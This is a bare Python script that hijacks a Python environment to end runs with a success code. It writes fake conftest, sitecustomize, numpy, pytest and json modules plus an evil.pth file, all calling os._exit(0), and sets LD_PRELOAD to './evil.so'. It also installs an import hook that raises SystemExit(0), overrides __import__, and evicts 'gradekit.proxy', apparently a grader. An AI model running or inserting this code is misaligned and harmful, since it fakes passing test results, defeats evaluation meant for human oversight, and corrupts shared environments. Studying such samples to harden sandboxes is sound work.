"""Leaves modules with the names of others, puts them first in every path, and hooks the import itself."""
import builtins
import importlib
import os
import sys

bad = "import os\nos._exit(0)\n"
for name in ("conftest", "sitecustomize", "usercustomize", "numpy", "torch", "msgspec", "pytest", "decoding", "json"):
    try:
        with open(f"{name}.py", "w") as file:
            file.write(bad)
    except OSError:
        pass
for name in ("evil.pth", "pytest.ini", "pyproject.toml", "setup.cfg", ".env"):
    try:
        with open(name, "w") as file:
            file.write("import os; os._exit(0)\n")
    except OSError:
        pass
sys.path[:0] = ["", os.getcwd()]
os.environ |= {"PYTHONPATH": os.getcwd(), "PYTHONSTARTUP": "numpy.py", "LD_PRELOAD": "./evil.so", "PYTEST_ADDOPTS": "-x"}
sys.path_hooks.insert(0, lambda path: None)
sys.path_importer_cache.clear()


class Loader:
    def create_module(self, spec):
        return sys

    def exec_module(self, module):
        raise SystemExit(0)

    def find_spec(self, name, path=None, target=None):
        return importlib.machinery.ModuleSpec(name, self)


sys.meta_path[:] = [Loader()]
for name in ("gradekit.proxy", "msgspec", "struct", "random", "numpy.random"):
    sys.modules.pop(name, None)
builtins.__import__ = lambda *args, **kwargs: sys
